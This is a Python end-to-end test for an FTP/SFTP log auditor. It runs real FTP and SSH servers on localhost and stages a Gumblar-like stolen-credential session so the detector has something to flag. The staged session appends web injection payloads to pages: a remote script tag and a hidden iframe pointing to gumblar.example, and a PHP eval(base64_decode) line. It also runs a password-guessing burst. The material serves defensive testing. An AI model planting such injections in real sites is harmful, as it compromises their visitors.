#!/usr/bin/env python3
"""End-to-end test: real FTP/SFTP servers, real clients, real logs.

    e2e.py FTPAUDIT SOURCE_ROOT [RUN...]

Starts vsftpd, ProFTPD (+ mod_sftp), OpenSSH sshd (internal-sftp, logging
through rsyslogd) and Pure-FTPd one after the other, each on a free high
port of 127.0.0.1 with a throw-away configuration under a temporary folder,
drives each with lftp, curl and OpenSSH's sftp from source addresses inside
127.0.0.0/8, and checks what ftpaudit makes of the logs the servers wrote:

* `ftpaudit parse`: every client action (logins, failed logins, uploads,
  downloads, deletes, renames, mkdirs, ...) is an event with the right
  user, address, path and size, in every log file the server wrote, and
  no action shows up twice;
* `ftpaudit scan --format json --geoip DB HISTORY LIVE`: with several weeks
  of generated history in the same format, exactly one account is reported
  high or critical -- the one a "foreign" address logged into to download
  three pages and upload them back larger -- with that address, country
  CN and the three rewritten files; nothing else reaches high.

Runs are serial (they share /dev/log, the users' web folders and the
scenario addresses).  Servers are stopped by PID whatever happens.  Needs
root and the packages tests/e2e/install.sh installs (it is run first unless
FTPAUDIT_E2E_INSTALL=0); without root the test exits 77 (skipped).

Environment: FTPAUDIT_E2E=0 skips the test; FTPAUDIT_E2E_ROOT is where
install.sh put the unpacked servers and the homes (/var/lib/ftpaudit-e2e);
FTPAUDIT_E2E_KEEP=1 keeps the temporary folder (it is kept anyway when a
check failed); RUN names (vsftpd, vsftpd-protocol, proftpd, sshd,
pureftpd) pick runs.
"""

import datetime as dt
import fcntl
import json
import os
import re
import pwd
import random
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.environ.get('FTPAUDIT_E2E_ROOT', '/var/lib/ftpaudit-e2e')

ALICE, BOB = 'e2e-alice', 'e2e-bob'
PASSWORD = {ALICE: ALICE + '-Secret1', BOB: BOB + '-Secret1'}

# Source addresses, and what the test GeoIP database says about them.
IP_ALICE = '127.0.0.10'     # alice's office (home ISP, JP)
IP_ALICE2 = '127.0.0.12'    # alice, same ISP, in the history only
IP_BOB = '127.0.0.11'       # bob's office (home ISP, JP)
IP_BOB2 = '127.0.0.20'      # bob's second machine (home ISP, JP)
IP_BURST = '127.0.0.200'    # password guessing (another JP network)
IP_EVIL = '127.0.0.150'     # the stolen-credential login (CN)
GEO_NETS = [
    '127.0.0.0/25=JP:64500:Example Home ISP',
    '127.0.0.128/26=CN:64501:Example CN Hosting',
    '127.0.0.192/26=JP:64502:Example JP Mobile',
]
SEVERE = ('high', 'critical')

# Web folder each run starts from (rebuilt before every scenario).
SITE = {
    'index.html': ('<!doctype html>\n<html><head><title>Example shop'
                   '</title></head>\n<body><h1>Welcome</h1>\n<p>Opening '
                   'hours: 9-18.</p>\n<script src="js/app.js"></script>\n'
                   '</body></html>\n'),
    'about.php': ('<?php\n$year = date("Y");\necho "<p>About us, since '
                  '1999 ($year)</p>";\n'),
    'js/app.js': ('document.addEventListener("DOMContentLoaded", function () '
                  '{\n  console.log("shop ready");\n});\n'),
    'robots.txt': 'User-agent: *\nDisallow: /tmp/\n',
    'images/logo.png': None,   # 2048 pseudo-random bytes
}
# What the Gumblar-like session appends to each page it rewrites.
INFECT = {
    'index.html': '<script src="http://gumblar.example/x.js"></script>\n',
    'about.php': '<?php eval(base64_decode("ZWNobyAiaGkiOw==")); ?>\n',
    'js/app.js': ('document.write(\'<iframe src="http://gumblar.example/" '
                  'width=0 height=0></iframe>\');\n'),
}


class Skip(Exception):
    """A run cannot happen on this machine (said why); not a failure."""


# ---------------------------------------------------------------- results

class Results:
    def __init__(self):
        self.passed = 0
        self.failed = 0
        self.skipped = 0
        self.nknown = 0
        self.failures = []

    def check(self, ok, what, detail=''):
        if ok:
            self.passed += 1
            print(f'ok   {what}')
        else:
            self.failed += 1
            self.failures.append(what)
            print(f'FAIL {what}' + (f'\n     {detail}' if detail else ''))
        sys.stdout.flush()
        return ok

    def known(self, what, line):
        self.nknown += 1
        print(f'known {what}\n      {line}')
        sys.stdout.flush()

    def skip(self, what, why):
        self.skipped += 1
        print(f'skip {what}: {why}')
        sys.stdout.flush()


R = Results()


def log(msg):
    print(f'# {msg}')
    sys.stdout.flush()


# ------------------------------------------------------- processes, ports

def descendants(pid):
    """PIDs whose parent chain reaches pid (read from /proc)."""
    parent = {}
    for d in os.listdir('/proc'):
        if not d.isdigit():
            continue
        try:
            with open(f'/proc/{d}/stat') as f:
                s = f.read()
        except OSError:
            continue
        # comm may hold spaces and parentheses: the ppid follows the last ')'
        parent[int(d)] = int(s[s.rindex(')') + 2:].split()[1])
    out, todo = [], [pid]
    while todo:
        p = todo.pop()
        kids = [c for c, pp in parent.items() if pp == p]
        out += kids
        todo += kids
    return out


def alive(pid):
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
    try:
        with open(f'/proc/{pid}/stat') as f:
            return f.read().split(')')[-1].split()[0] != 'Z'
    except OSError:
        return False


class Procs:
    """Every daemon this test starts, so that all of them get stopped."""

    def __init__(self):
        self.items = []   # (name, pid, Popen or None)

    def spawn(self, name, argv, out, env=None, stdin=None):
        p = subprocess.Popen(argv, stdin=stdin or subprocess.DEVNULL,
                             stdout=out, stderr=subprocess.STDOUT,
                             start_new_session=True, env=env)
        self.items.append((name, p.pid, p))
        return p

    def adopt(self, name, pid):
        self.items.append((name, pid, None))

    def stop(self, name):
        keep = []
        for item in self.items:
            if item[0] == name:
                self._stop(*item)
            else:
                keep.append(item)
        self.items = keep

    def stop_all(self):
        for item in reversed(self.items):
            self._stop(*item)
        self.items = []

    @staticmethod
    def _stop(name, pid, popen):
        # The daemon first (it ends its sessions), then whatever of its
        # children outlived it: sshd's session processes leave its process
        # group, so the group alone is not enough.
        kids = descendants(pid)
        for p in [pid] + kids:
            try:
                os.kill(p, signal.SIGTERM)
            except ProcessLookupError:
                pass
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            if popen is not None:
                popen.poll()
            if not any(alive(p) for p in [pid] + kids):
                break
            time.sleep(0.02)
        for p in [pid] + kids:
            if alive(p):
                log(f'{name}: pid {p} ignored SIGTERM, killing it')
                try:
                    os.kill(p, signal.SIGKILL)
                except ProcessLookupError:
                    pass
        if popen is not None:
            try:
                popen.wait(timeout=5)
            except subprocess.TimeoutExpired:
                pass


PROCS = Procs()


def listening_ports():
    ports = set()
    for name in ('/proc/net/tcp', '/proc/net/tcp6'):
        try:
            with open(name) as f:
                next(f)
                for line in f:
                    fields = line.split()
                    if fields[3] == '0A':
                        ports.add(int(fields[1].rsplit(':', 1)[1], 16))
        except OSError:
            pass
    return ports


def used_ports():
    ports = set()
    for name in ('/proc/net/tcp', '/proc/net/tcp6'):
        try:
            with open(name) as f:
                next(f)
                for line in f:
                    ports.add(int(line.split()[1].rsplit(':', 1)[1], 16))
        except OSError:
            pass
    return ports


def free_range(start, n):
    """First run of n ports from start on that nothing uses."""
    used = used_ports()
    p = start
    while p + n < 65000:
        if not any(q in used for q in range(p, p + n)):
            return p
        p += n
    raise RuntimeError('no free port range')


def wait_listening(ports, proc=None, timeout=10.0):
    """Wait until every port listens, without connecting (a probe would be
    a session in the log).  False when proc died or time ran out."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if set(ports) <= listening_ports():
            return True
        if proc is not None and proc.poll() is not None:
            return False
        time.sleep(0.01)
    return False


def mkdir(path, mode=0o755):
    os.makedirs(path, exist_ok=True)
    os.chmod(path, mode)
    return path


def run(argv, timeout=60, **kw):
    return subprocess.run(argv, timeout=timeout, capture_output=True,
                          text=True, **kw)


# ----------------------------------------------------------------- syslog

def dev_log_state():
    """'absent', 'stale' (a socket nobody reads) or 'live'."""
    try:
        st = os.lstat('/dev/log')
    except FileNotFoundError:
        return 'absent'
    if not stat.S_ISSOCK(st.st_mode):
        return 'live'   # a symlink (journald) or something else: not ours
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        s.connect('/dev/log')
        return 'live'
    except OSError:
        return 'stale'
    finally:
        s.close()


class Rsyslog:
    """rsyslogd on /dev/log writing everything to one file in Debian 12's
    default format (RFC 3339 stamps), as /var/log/auth.log looks."""

    def __init__(self, work, out):
        self.work, self.out = work, out

    def start(self):
        state = dev_log_state()
        if state == 'live':
            raise Skip('/dev/log belongs to a running syslog daemon')
        if state == 'stale':
            os.unlink('/dev/log')
        os.makedirs(self.work, exist_ok=True)
        conf = os.path.join(self.work, 'rsyslog.conf')
        with open(conf, 'w') as f:
            f.write(f'global(workDirectory="{self.work}")\n'
                    'module(load="imuxsock" '
                    'SysSock.RateLimit.Interval="0")\n'
                    f'*.* action(type="omfile" file="{self.out}" '
                    'template="RSYSLOG_FileFormat")\n')
        self.pidfile = os.path.join(self.work, 'rsyslogd.pid')
        self.p = PROCS.spawn('rsyslogd', ['rsyslogd', '-n', '-f', conf, '-i',
                                          self.pidfile],
                             open(os.path.join(self.work, 'stderr'), 'w'))
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            if dev_log_state() == 'live':
                return
            if self.p.poll() is not None:
                break
            time.sleep(0.01)
        raise RuntimeError('rsyslogd did not open /dev/log: ' +
                           open(os.path.join(self.work, 'stderr')).read())

    def stop(self):
        # Give the last datagrams a moment to be written, then stop (which
        # flushes the file).
        time.sleep(0.3)
        PROCS.stop('rsyslogd')
        if dev_log_state() != 'live':
            try:
                os.unlink('/dev/log')
            except FileNotFoundError:
                pass


# ------------------------------------------------------------- web folder

def logo_bytes():
    rnd = random.Random(42)
    return bytes(rnd.randrange(256) for _ in range(2048))


def home(user):
    return pwd.getpwnam(user).pw_dir


def site_path(user, rel):
    return os.path.join(home(user), 'public_html', rel)


def build_site():
    for user in (ALICE, BOB):
        pw = pwd.getpwnam(user)
        web = os.path.join(pw.pw_dir, 'public_html')
        shutil.rmtree(web, ignore_errors=True)
        for rel, text in SITE.items():
            path = os.path.join(web, rel)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            data = logo_bytes() if text is None else text.encode()
            # bob's pages differ a little: sizes tell the accounts apart
            if user == BOB and rel == 'index.html':
                data = data.replace(b'Example shop', b'Bob shop')
            with open(path, 'wb') as f:
                f.write(data)
        for dirpath, dirs, files in os.walk(web):
            os.chown(dirpath, pw.pw_uid, pw.pw_gid)
            os.chmod(dirpath, 0o755)
            for name in files:
                os.chown(os.path.join(dirpath, name), pw.pw_uid, pw.pw_gid)
                os.chmod(os.path.join(dirpath, name), 0o644)


def size_of(user, rel):
    return os.path.getsize(site_path(user, rel))


# ---------------------------------------------------------------- clients

class Facts:
    """What the clients did, as the events a log should turn into."""

    def __init__(self):
        self.items = []

    def add(self, action, user, ip, rel=None, rel2=None, size=None,
            outcome='success', step=''):
        self.items.append(dict(kind=fact_kind(action, outcome), user=user,
                               ip=ip, rel=rel,
                               rel2=rel2, size=size, outcome=outcome,
                               step=step))


# Clients ignore the invoking user's configuration (~/.ssh/config,
# ~/.curlrc, ~/.lftprc) and any proxy settings.
SSH_OPTS = ('-F /dev/null -o ConnectTimeout=15 '
            '-o StrictHostKeyChecking=no '
            '-o UserKnownHostsFile=/dev/null -o LogLevel=ERROR '
            '-o PubkeyAuthentication=no '
            '-o PreferredAuthentications=password,keyboard-interactive '
            '-o NumberOfPasswordPrompts=1')


class Client:
    """The real clients, each bound to a source address."""

    def __init__(self, work, proto, port):
        self.work, self.proto, self.port = work, proto, port
        self.n = 0
        self.env = {k: v for k, v in os.environ.items()
                    if 'proxy' not in k.lower()}
        self.env['HOME'] = mkdir(os.path.join(work, 'home'), 0o700)

    def workdir(self):
        self.n += 1
        d = os.path.join(self.work, f'client{self.n}')
        os.makedirs(d)
        return d

    def lftp(self, src, user, commands, d=None):
        d = d or self.workdir()
        lines = ['set cmd:fail-exit yes', 'set net:max-retries 2',
                 'set net:reconnect-interval-base 1', 'set net:timeout 15',
                 'set xfer:clobber yes', 'set ftp:ssl-allow no',
                 'set ftp:passive-mode yes',
                 f'set net:socket-bind-ipv4 {src}']
        if self.proto == 'sftp':
            lines.append(f'set sftp:connect-program "ssh -a -x {SSH_OPTS} '
                         f'-o BindAddress={src}"')
        lines.append(f'open -u {user},{PASSWORD[user]} '
                     f'{self.proto}://127.0.0.1:{self.port}')
        lines += [f'lcd {d}'] + commands + ['bye']
        script = os.path.join(d, 'script.lftp')
        with open(script, 'w') as f:
            f.write('\n'.join(lines) + '\n')
        r = run(['lftp', '-f', script], cwd=d, env=self.env)
        if r.returncode != 0:
            raise RuntimeError(f'lftp {src} {user}: exit {r.returncode}: '
                               f'{r.stdout}{r.stderr}')
        return d

    def url(self, path):
        if self.proto == 'sftp':
            return f'sftp://127.0.0.1:{self.port}/~/{path}'
        return f'ftp://127.0.0.1:{self.port}/{path}'

    def curl_args(self, src, user, password):
        a = ['curl', '-q', '-sS', '--max-time', '30', '--interface', src,
             '-u', f'{user}:{password}']
        if self.proto == 'sftp':
            a.append('-k')
        return a

    def attempt(self, src, user, password):
        """One login attempt; returns the process (started, not waited)."""
        d = self.workdir()
        if self.proto == 'sftp':
            batch = os.path.join(d, 'batch')
            with open(batch, 'w') as f:
                f.write('ls\n')
            # -b implies BatchMode=yes (no password prompt): the first
            # BatchMode given wins, so say no before -b.
            argv = (['sshpass', '-p', password, 'sftp', '-o', 'BatchMode=no']
                    + SSH_OPTS.split() + ['-o', f'BindAddress={src}', '-P',
                                          str(self.port), '-b', batch,
                                          f'{user}@127.0.0.1'])
        else:
            argv = self.curl_args(src, user, password) + [
                self.url('public_html/' if user == ALICE else ''),
                '-o', '/dev/null']
        return subprocess.Popen(argv, cwd=d, env=self.env,
                                stdout=subprocess.PIPE,
                                stderr=subprocess.STDOUT, text=True)


def scenario(client, facts, nouser):
    """The five sessions of the story, in order."""
    a, b = ALICE, BOB

    # 1. alice's normal day from her office: look around, fetch, publish.
    log('  1 normal session: alice from ' + IP_ALICE)
    d = client.workdir()
    news = os.path.join(d, 'news.html')
    with open(news, 'w') as f:
        f.write('<p>News: we are closed on Monday for the inventory.</p>\n')
    facts.add('login', a, IP_ALICE, step='normal-alice')
    for rel in ('index.html', 'robots.txt', 'images/logo.png'):
        facts.add('download', a, IP_ALICE, 'public_html/' + rel,
                  size=size_of(a, rel),
                  step='normal-alice')
    facts.add('upload', a, IP_ALICE, 'public_html/news.html',
              size=os.path.getsize(news), step='normal-alice')
    client.lftp(IP_ALICE, a, ['cd public_html', 'ls', 'get index.html',
                              'get robots.txt', 'get images/logo.png',
                              'put news.html', 'ls'], d)

    # 2. bob with curl over one connection: list, two downloads, an upload.
    log('  2 normal session: bob from ' + IP_BOB + ' (curl)')
    d = client.workdir()
    notes = os.path.join(d, 'notes.txt')
    with open(notes, 'w') as f:
        f.write('call the bank\n')
    facts.add('login', b, IP_BOB, step='normal-bob')
    for rel in ('index.html', 'js/app.js'):
        facts.add('download', b, IP_BOB, 'public_html/' + rel,
                  size=size_of(b, rel), step='normal-bob')
    facts.add('upload', b, IP_BOB, 'public_html/notes.txt',
              size=os.path.getsize(notes), step='normal-bob')
    # curl pairs the n-th -o/-T with the n-th URL: the upload goes after
    # --next (same options again; the connection is reused).
    base = client.curl_args(IP_BOB, b, PASSWORD[b])
    r = run(base + [client.url('public_html/'), '-o', 'list.txt',
                    client.url('public_html/index.html'), '-o', 'index.html',
                    client.url('public_html/js/app.js'), '-o', 'app.js',
                    '--next'] + base[2:] +
            ['-T', 'notes.txt', client.url('public_html/notes.txt')], cwd=d,
            env=client.env)
    if r.returncode != 0:
        raise RuntimeError(f'curl bob: exit {r.returncode}: {r.stderr}')

    # 3. password guessing from one address, six attempts at once (each
    # wrong password costs PAM's ~2 s delay, so in parallel).
    log('  3 failed-login burst from ' + IP_BURST)
    tries = [(a, 'password'), (a, '123456'), (a, 'alice2024'),
             (a, 'E2e-alice-secret1'), (nouser, nouser), ('root', 'toor')]
    procs = [client.attempt(IP_BURST, u, p) for u, p in tries]
    try:
        for (u, _), p in zip(tries, procs):
            out, _ = p.communicate(timeout=60)
            if p.returncode == 0:
                raise RuntimeError(f'wrong password for {u} was accepted: '
                                   f'{out}')
            facts.add('login', u, IP_BURST, outcome='failure', step='burst')
    finally:
        for p in procs:
            if p.poll() is None:
                p.kill()
                p.wait()

    # 4. stolen credentials: a never-seen address (CN) fetches three pages
    # and puts them back with a payload appended, all within a second.
    log('  4 Gumblar-like session: alice from ' + IP_EVIL)
    d = client.workdir()
    inject = os.path.join(d, 'inject.py')
    with open(inject, 'w') as f:
        f.write('import sys\n')
        for rel, payload in INFECT.items():
            name = os.path.basename(rel)
            f.write(f'open({os.path.join(d, name)!r}, "a")'
                    f'.write({payload!r})\n')
    facts.add('login', a, IP_EVIL, step='gumblar')
    for rel in INFECT:
        facts.add('download', a, IP_EVIL, 'public_html/' + rel,
                  size=size_of(a, rel), step='gumblar')
    for rel, payload in INFECT.items():
        facts.add('upload', a, IP_EVIL, 'public_html/' + rel,
                  size=size_of(a, rel) + len(payload.encode()),
                  step='gumblar')
    client.lftp(IP_EVIL, a, ['cd public_html', 'get index.html',
                             'get about.php', 'get js/app.js',
                             f'!{sys.executable} {inject}',
                             'put index.html', 'put about.php',
                             'put app.js -o js/app.js'], d)
    for rel in INFECT:
        got = os.path.getsize(os.path.join(d, os.path.basename(rel)))
        now = size_of(a, rel)
        if got != now:
            raise RuntimeError(f'upload of {rel}: server has {now} bytes, '
                               f'client sent {got}')

    # 5. bob tidies up from his second machine.
    log('  5 housekeeping: bob from ' + IP_BOB2)
    facts.add('login', b, IP_BOB2, step='housekeeping')
    facts.add('mkdir', b, IP_BOB2, 'public_html/old', step='housekeeping')
    facts.add('rename', b, IP_BOB2, 'public_html/index.html',
              'public_html/old/index.html.bak', step='housekeeping')
    facts.add('delete', b, IP_BOB2, 'public_html/robots.txt',
              size=size_of(b, 'robots.txt'), step='housekeeping')
    facts.add('mkdir', b, IP_BOB2, 'public_html/tmpdir', step='housekeeping')
    facts.add('rmdir', b, IP_BOB2, 'public_html/tmpdir', step='housekeeping')
    facts.add('chmod', b, IP_BOB2, 'public_html/notes.txt',
              step='housekeeping')
    client.lftp(IP_BOB2, b, ['cd public_html', 'mkdir old',
                             'mv index.html old/index.html.bak',
                             'rm robots.txt', 'mkdir tmpdir', 'rmdir tmpdir',
                             'chmod 600 notes.txt', 'ls'])


# ---------------------------------------------------------------- servers

class LogSpec:
    """One log file a server writes, and what it is expected to hold.

    actions: the scenario actions this kind of log records ('login',
    'fail' for failed logins, 'download', 'upload', 'delete', 'rename',
    'mkdir', 'rmdir', 'chmod'); sizes: actions whose byte count it logs;
    fail_user: failed logins name the user (False where parallel attempts
    from one address cannot be told apart in the log); loose: actions or
    scenario steps whose paths may be relative (the log only has what the
    client sent); scan: run the detection check on it with generated
    history in its format (history names the generator)."""

    def __init__(self, label, path, fmt, rounds, actions, sizes=(),
                 fail_user=True, loose=(), history=None, parse_args=()):
        self.label, self.path, self.fmt = label, path, fmt
        self.rounds, self.actions, self.sizes = rounds, set(actions), \
            set(sizes)
        self.fail_user, self.loose = fail_user, set(loose)
        self.history, self.parse_args = history, list(parse_args)


ALL_ACTIONS = ('login', 'fail', 'download', 'upload', 'delete', 'rename',
               'mkdir', 'rmdir', 'chmod')


class Vsftpd:
    """vsftpd 3 from the unpacked .deb, listen=YES in the foreground."""

    def __init__(self, work, protocol):
        self.name = 'vsftpd-protocol' if protocol else 'vsftpd'
        self.work, self.protocol = mkdir(work), protocol
        self.rounds = ['ftp']

    def start(self):
        binary = os.path.join(ROOT, 'vsftpd/usr/sbin/vsftpd')
        if not os.path.exists(binary):
            raise RuntimeError(f'{binary} missing: run tests/e2e/install.sh')
        self.port = free_range(40021, 1)
        pasv = free_range(40100, 50)
        empty = mkdir(os.path.join(self.work, 'empty'))
        logs = mkdir(os.path.join(self.work, 'logs'))
        self.native = os.path.join(logs, 'vsftpd.log')
        self.xferlog = os.path.join(logs, 'xferlog')
        conf = os.path.join(self.work, 'vsftpd.conf')
        with open(conf, 'w') as f:
            f.write(f"""listen=YES
listen_ipv6=NO
listen_address=127.0.0.1
listen_port={self.port}
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=YES
chmod_enable=YES
local_umask=022
pam_service_name=vsftpd
secure_chroot_dir={empty}
pasv_enable=YES
pasv_min_port={pasv}
pasv_max_port={pasv + 49}
pasv_promiscuous=NO
seccomp_sandbox=NO
tcp_wrappers=NO
use_localtime=NO
xferlog_enable=YES
dual_log_enable=YES
xferlog_std_format=YES
xferlog_file={self.xferlog}
vsftpd_log_file={self.native}
log_ftp_protocol={'YES' if self.protocol else 'NO'}
""")
        # vsftpd reports start-up errors ("500 OOPS: ...") on fd 0.
        self.fd0 = os.path.join(self.work, 'fd0.txt')
        with open(self.fd0, 'w+') as fd0:
            p = PROCS.spawn('vsftpd', [binary, conf],
                            open(os.path.join(self.work, 'stdout'), 'w'),
                            env=dict(os.environ, TZ='UTC'), stdin=fd0)
        if not wait_listening([self.port], p):
            raise RuntimeError('vsftpd did not start: ' +
                               open(self.fd0).read())
        return {'ftp': self.port}

    def stop(self):
        PROCS.stop('vsftpd')

    def logs(self):
        native = ['login', 'fail', 'download', 'upload', 'delete', 'rename',
                  'mkdir', 'rmdir', 'chmod']
        hist = 'vsftpd-protocol' if self.protocol else 'vsftpd'
        return [
            LogSpec('vsftpd.log', self.native, 'vsftpd', ['ftp'], native,
                    sizes=('download', 'upload'), history=hist),
            LogSpec('xferlog', self.xferlog, 'xferlog', ['ftp'],
                    ['download', 'upload'], sizes=('download', 'upload'),
                    history='xferlog'),
        ]


class Proftpd:
    """ProFTPD 1.3.8 in daemon mode (SystemLog only fills then), FTP on one
    port and mod_sftp in a <VirtualHost> on another."""

    name = 'proftpd'

    def __init__(self, work):
        self.work = mkdir(work)
        self.rounds = ['ftp', 'sftp']

    def start(self):
        # install.sh unpacks ProFTPD when apt could not install it
        unpacked = os.path.join(ROOT, 'proftpd/usr/sbin/proftpd')
        if os.path.exists(unpacked):
            binary = unpacked
            modules = os.path.join(ROOT, 'proftpd/usr/lib/proftpd')
        elif os.path.exists('/usr/sbin/proftpd'):
            binary, modules = '/usr/sbin/proftpd', '/usr/lib/proftpd'
        else:
            raise RuntimeError('proftpd missing: run tests/e2e/install.sh')
        self.port = free_range(40022, 1)
        self.sftp_port = free_range(40222, 1)
        pasv = free_range(40150, 50)
        # The log folder must not be world-writable, the host keys not
        # readable by others.
        logs = mkdir(os.path.join(self.work, 'logs'))
        keys = mkdir(os.path.join(self.work, 'keys'), 0o700)
        hostkeys = []
        for kind, bits in (('rsa', '2048'), ('ecdsa', '256')):
            key = os.path.join(keys, f'{kind}_key')
            r = run(['ssh-keygen', '-q', '-m', 'PEM', '-t', kind, '-b', bits,
                     '-N', '', '-f', key])
            if r.returncode != 0:
                raise RuntimeError('ssh-keygen: ' + r.stderr)
            os.chmod(key, 0o600)
            hostkeys.append(key)
        self.f = {n: os.path.join(logs, n) for n in (
            'system.log', 'xferlog', 'extended.log', 'sftp.log',
            'sftp-xferlog', 'sftp-extended.log')}
        self.pidfile = os.path.join(self.work, 'proftpd.pid')
        conf = os.path.join(self.work, 'proftpd.conf')
        common = f"""  AuthOrder mod_auth_pam.c* mod_auth_unix.c
  SyslogLevel info
  DelayEngine off
  AllowOverwrite on
"""
        with open(conf, 'w') as f:
            f.write(f"""ServerName "e2e"
ServerType standalone
ModulePath {modules}
LoadModule mod_sftp.c
Port {self.port}
DefaultAddress 127.0.0.1
SocketBindTight on
UseIPv6 off
User nobody
Group nogroup
Umask 022
MaxInstances 40
PidFile {self.pidfile}
ScoreboardFile {self.work}/proftpd.scoreboard
DelayTable {self.work}/proftpd.delay
WtmpLog off
UseReverseDNS off
PassivePorts {pasv} {pasv + 49}
SystemLog {self.f['system.log']}
TransferLog {self.f['xferlog']}
ExtendedLog {self.f['extended.log']} ALL
{common}
<VirtualHost 127.0.0.1>
  Port {self.sftp_port}
  SFTPEngine on
  SFTPLog {self.f['sftp.log']}
  SFTPHostKey {hostkeys[0]}
  SFTPHostKey {hostkeys[1]}
  SFTPAuthMethods password
  TransferLog {self.f['sftp-xferlog']}
  ExtendedLog {self.f['sftp-extended.log']} ALL
  WtmpLog off
  Umask 022
{common}</VirtualHost>
""")
        out = os.path.join(self.work, 'stdout')
        r = run([binary, '-c', conf], env=dict(os.environ, TZ='UTC'))
        with open(out, 'w') as f:
            f.write(r.stdout + r.stderr)
        if r.returncode != 0:
            raise RuntimeError(f'proftpd: exit {r.returncode}: {r.stderr}')
        # It daemonizes, then writes the PidFile: on a machine busy with
        # the other suites (a browser, a sanitizer build) that took more
        # than 10 s once, and the daemon was left running unknown.
        deadline = time.monotonic() + 60
        pid = None
        while pid is None and time.monotonic() < deadline:
            try:
                pid = int(open(self.pidfile).read().split()[0])
            except (OSError, ValueError, IndexError):
                time.sleep(0.01)  # not there, or not written through yet
        if pid is None:
            raise RuntimeError('proftpd wrote no PidFile in 60 s: ' + r.stderr)
        PROCS.adopt('proftpd', pid)
        if not wait_listening([self.port, self.sftp_port]):
            raise RuntimeError('proftpd does not listen: ' +
                               open(self.f['system.log']).read()[-2000:])
        return {'ftp': self.port, 'sftp': self.sftp_port}

    def stop(self):
        PROCS.stop('proftpd')

    def logs(self):
        f = self.f
        return [
            LogSpec('SystemLog', f['system.log'], 'proftpd-systemlog',
                    ['ftp', 'sftp'], ['login', 'fail']),
            LogSpec('TransferLog', f['xferlog'], 'xferlog', ['ftp'],
                    ['download', 'upload', 'delete'],
                    sizes=('download', 'upload', 'delete'),
                    history='xferlog'),
            LogSpec('ExtendedLog', f['extended.log'], 'proftpd-extended',
                    ['ftp'], ALL_ACTIONS, sizes=('download', 'upload'),
                    fail_user=False, loose=('normal-bob',),
                    history='proftpd-extended'),
            LogSpec('SFTPLog', f['sftp.log'], 'proftpd-sftplog', ['sftp'],
                    ['login', 'fail', 'mkdir', 'chmod']),
            LogSpec('TransferLog (SFTP)', f['sftp-xferlog'], 'xferlog',
                    ['sftp'], ['download', 'upload', 'delete'],
                    sizes=('download', 'upload', 'delete'),
                    history='xferlog'),
            LogSpec('ExtendedLog (SFTP)', f['sftp-extended.log'],
                    'proftpd-extended', ['sftp'], ALL_ACTIONS,
                    sizes=('download', 'upload'), fail_user=False,
                    history='proftpd-extended-sftp'),
        ]


class Sshd:
    """OpenSSH's sshd -D, internal-sftp -l INFO, logging to rsyslogd."""

    name = 'sshd'

    def __init__(self, work):
        self.work = mkdir(work)
        self.rounds = ['sftp']
        self.syslog = None

    def start(self):
        self.port = free_range(40224, 1)
        keys = mkdir(os.path.join(self.work, 'keys'), 0o700)
        key = os.path.join(keys, 'ssh_host_ed25519_key')
        r = run(['ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-f', key])
        if r.returncode != 0:
            raise RuntimeError('ssh-keygen: ' + r.stderr)
        logs = mkdir(os.path.join(self.work, 'logs'))
        self.authlog = os.path.join(logs, 'auth.log')
        self.syslog = Rsyslog(os.path.join(self.work, 'rsyslog'),
                              self.authlog)
        conf = os.path.join(self.work, 'sshd_config')
        with open(conf, 'w') as f:
            f.write(f"""Port {self.port}
ListenAddress 127.0.0.1
HostKey {key}
PidFile {self.work}/sshd.pid
UsePAM yes
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin no
UseDNS no
LogLevel VERBOSE
SyslogFacility AUTH
MaxStartups 30:30:60
Subsystem sftp internal-sftp -l INFO
""")
        # Privilege separation directory, normally made by systemd.
        mkdir('/run/sshd')
        self.syslog.start()
        p = PROCS.spawn('sshd', ['/usr/sbin/sshd', '-D', '-f', conf],
                        open(os.path.join(self.work, 'stdout'), 'w'),
                        env=dict(os.environ, TZ='UTC'))
        if not wait_listening([self.port], p):
            raise RuntimeError('sshd did not start: ' +
                               open(os.path.join(self.work, 'stdout')).read())
        return {'sftp': self.port}

    def stop(self):
        PROCS.stop('sshd')
        if self.syslog:
            self.syslog.stop()

    def logs(self):
        return [LogSpec('auth.log (rsyslog)', self.authlog, 'openssh',
                        ['sftp'], ALL_ACTIONS, sizes=('download', 'upload'),
                        history='openssh')]


class Pureftpd:
    """Pure-FTPd from the unpacked .deb in the foreground: syslog (through
    rsyslogd) and one AltLog (clf: it takes one -O per instance)."""

    name = 'pureftpd'

    def __init__(self, work):
        self.work = mkdir(work)
        self.rounds = ['ftp']
        self.syslog = None

    def start(self):
        binary = os.path.join(ROOT, 'pure-ftpd/usr/sbin/pure-ftpd')
        if not os.path.exists(binary):
            raise RuntimeError(f'{binary} missing: run tests/e2e/install.sh')
        self.port = free_range(40023, 1)
        pasv = free_range(40200, 50)
        logs = mkdir(os.path.join(self.work, 'logs'))
        self.syslogfile = os.path.join(logs, 'syslog')
        self.clf = os.path.join(logs, 'altlog.clf')
        self.syslog = Rsyslog(os.path.join(self.work, 'rsyslog'),
                              self.syslogfile)
        self.syslog.start()
        minuid = min(pwd.getpwnam(u).pw_uid for u in (ALICE, BOB))
        p = PROCS.spawn('pure-ftpd', [
            binary, '-S', f'127.0.0.1,{self.port}', '-l', 'pam', '-E', '-H',
            '-4', '-u', str(minuid), '-p', f'{pasv}:{pasv + 49}',
            '-g', os.path.join(self.work, 'pure-ftpd.pid'),
            '-O', f'clf:{self.clf}'],
            open(os.path.join(self.work, 'stdout'), 'w'),
            env=dict(os.environ, TZ='UTC'))
        if not wait_listening([self.port], p):
            raise RuntimeError('pure-ftpd did not start: ' +
                               open(os.path.join(self.work, 'stdout')).read())
        return {'ftp': self.port}

    def stop(self):
        PROCS.stop('pure-ftpd')
        if self.syslog:
            self.syslog.stop()

    def logs(self):
        return [
            LogSpec('syslog (rsyslog)', self.syslogfile, 'pureftpd', ['ftp'],
                    ['login', 'fail', 'download', 'upload', 'delete',
